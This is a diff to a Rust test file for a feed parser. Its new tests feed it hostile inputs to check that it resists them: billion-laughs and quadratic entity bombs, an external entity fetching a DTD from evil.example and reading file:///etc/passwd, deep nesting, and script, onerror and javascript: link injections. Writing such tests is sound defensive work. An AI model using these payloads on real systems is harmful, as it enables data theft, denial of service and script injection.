@@ -5,7 +5,14 @@ use crate::base::random::Random;
 use std::path::{Path, PathBuf};
 
 fn feed(document: &str) -> Feed {
-    read_feed(document.as_bytes(), None, Url::parse("https://news.example/feed.xml").ok().as_ref(), Tz::UTC).unwrap()
+    let base = Url::parse("https://news.example/feed.xml").ok();
+    let mut feed = read_feed(document.as_bytes(), None, base.as_ref(), Tz::UTC).unwrap();
+    read_bodies(&mut feed, base.as_ref());
+    feed
+}
+
+fn entry(inside: &str) -> Entry {
+    feed(&format!("<rss version='2.0'><channel><item>{inside}</item></channel></rss>")).entries.remove(0)
 }
 
 fn titles(feed: &Feed) -> Vec<&str> {
@@ -132,11 +139,111 @@ fn what_is_wrong_around_an_entry_does_not_lose_it() {
 fn an_entity_of_a_doctype_is_never_expanded() {
     let bomb = "<!DOCTYPE r [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><rss><channel><item><title>&b;</title></item></channel></rss>";
     assert_eq!(titles(&feed(bomb)), ["&b;"]);
+    // A billion laughs, a quadratic one, and an external one by a parameter.
+    let laughs: String = (1..10).map(|n| format!("<!ENTITY l{n} '{}'>", format!("&l{};", n - 1).repeat(10))).collect();
+    let big = format!("<!ENTITY big '{}'>", "x".repeat(50_000));
+    for (declared, used) in [
+        (format!("<!ENTITY l0 'ha'>{laughs}"), "&l9;".to_owned()),
+        (big, "&big;".repeat(50_000)),
+        (
+            "<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'>%x;<!ENTITY y SYSTEM 'file:///etc/passwd'>".to_owned(),
+            "&y;".to_owned(),
+        ),
+    ] {
+        let document = format!(
+            "<!DOCTYPE rss [{declared}]><rss><channel><item><title>T</title><description>{used}</description></item></channel></rss>"
+        );
+        let feed = feed(&document);
+        assert_eq!(titles(&feed), ["T"]);
+        assert!(feed.entries[0].summary.as_ref().unwrap().len() <= used.len());
+        assert!(feed.entries[0].summary.as_ref().unwrap().starts_with('&'));
+    }
+}
+
+#[test]
+fn what_is_nested_too_deeply_loses_only_its_depth() {
+    let deep = format!("<a>{}</a>", "<b>".repeat(100_000));
+    let document =
+        format!("<rss><channel><item><title>One</title>{deep}</item><item><title>Two</title></item></channel></rss>");
+    assert_eq!(titles(&feed(&document)).first(), Some(&"One"));
+    let content =
+        format!("<content:encoded><![CDATA[{}deep]]></content:encoded><title>T</title>", "<div>".repeat(100_000));
+    let found = entry(&content);
+    assert_eq!((found.title.as_str(), found.text.as_str()), ("T", "deep"));
+}
+
+#[test]
+fn a_script_in_a_title_a_name_or_a_category_does_not_get_through() {
+    let script = "<![CDATA[<script>alert(1)</script>]]>&lt;img src=x onerror=alert(1)&gt;Anna Ray";
+    let found =
+        entry(&format!("<title>{script}</title><dc:creator>{script}</dc:creator><category>{script}</category>"));
+    assert_eq!(found.title, "Anna Ray");
+    assert_eq!((found.authors, found.categories), (vec!["Anna Ray".to_owned()], vec!["Anna Ray".to_owned()]));
+    assert_eq!(entry("<title>T</title><link>javascript:alert(1)</link>").link, None);
+}
+
+#[test]
+fn dates_in_dublin_core_are_both_first_and_last_where_nothing_else_is_said() {
+    let found = entry("<dc:date>2026-11-23</dc:date>");
+    assert_eq!((found.published, found.updated), (parse_date("2026-11-23"), parse_date("2026-11-23")));
+    let found = entry("<pubDate>Sun, 22 Nov 2026 10:00:00 GMT</pubDate><dc:date>2026-11-23</dc:date>");
+    assert_eq!((found.published, found.updated), (parse_date("2026-11-22T10:00:00Z"), parse_date("2026-11-23")));
+    assert_eq!(entry("<dcterms:issued>2026-11-23</dcterms:issued>").published, parse_date("2026-11-23"));
+}
+
+#[test]
+fn a_second_description_is_the_content_where_there_is_no_other() {
+    let found = entry("<description>Short</description><itunes:summary>Longer</itunes:summary>");
+    assert_eq!((found.summary.as_deref(), found.content.as_deref()), (Some("Short"), Some("Longer")));
+    let found = entry(
+        "<description>Short</description><content:encoded>Whole</content:encoded><itunes:summary>Last</itunes:summary>",
+    );
+    assert_eq!((found.summary.as_deref(), found.content.as_deref()), (Some("Last"), Some("Whole")));
+    // A caption is neither.
+    let found = entry("<description>Short</description><media:description>The pier</media:description>");
+    assert_eq!((found.summary.as_deref(), found.content.as_deref()), (Some("Short"), None));
+    assert_eq!(
+        entry("<description>The whole story, told at length.</description><content>More</content>").text,
+        "The whole story, told at length."
+    );
+}
+
+#[test]
+fn categories_and_keywords_of_all_vocabularies_are_kept_own_ones_first() {
+    let found = entry(
+        "<itunes:keywords>salt, pepper</itunes:keywords><itunes:category text='Arts'><itunes:category text='Food'/></itunes:category>\
+         <media:category>sea</media:category><dc:subject>World</dc:subject><category>Town<image><title>x</title></image></category>",
+    );
+    assert_eq!(found.categories, ["sea", "World", "Town", "salt", "pepper", "Arts", "Food"]);
+}
+
+#[test]
+fn every_enclosure_is_kept_with_type_and_length() {
+    let found = entry(
+        "<enclosure url='/a.mp3' type='audio/mpeg' length='12'/><atom:link rel='enclosure' href='https://cdn.example/b.pdf' length='x'/>",
+    );
+    let enclosure =
+        |url: &str, kind: &str, length_bytes| Enclosure { url: url.to_owned(), kind: kind.to_owned(), length_bytes };
+    assert_eq!(
+        found.enclosures,
+        [
+            enclosure("https://news.example/a.mp3", "audio/mpeg", Some(12)),
+            enclosure("https://cdn.example/b.pdf", "", None)
+        ]
+    );
+}
+
+#[test]
+fn an_entry_that_the_end_cuts_is_kept_if_it_names_itself() {
+    let document = "<rss><channel><item><title>One</title><link>https://news.example/1</link><description>The harb";
+    let found = feed(document);
+    assert_eq!((titles(&found), found.entries[0].summary.as_deref()), (vec!["One"], None));
+    assert!(found.bozo.is_some());
+    assert!(feed("<rss><channel><title>N</title><item><title>One</title><link>https://news.e").entries.is_empty());
 }
 
 #[test]
 fn a_title_and_a_link_are_found_wherever_they_hide() {
-    let entry = |inside: &str| feed(&format!("<rss><channel><item>{inside}</item></channel></rss>")).entries.remove(0);
     assert_eq!(entry("<title><![CDATA[A <b>bold</b> &amp; plain]]></title>").title, "A bold & plain");
     assert_eq!(entry("<dc:title>D</dc:title>").title, "D");
     assert_eq!(entry("<media:group><media:title>M</media:title></media:group>").title, "M");
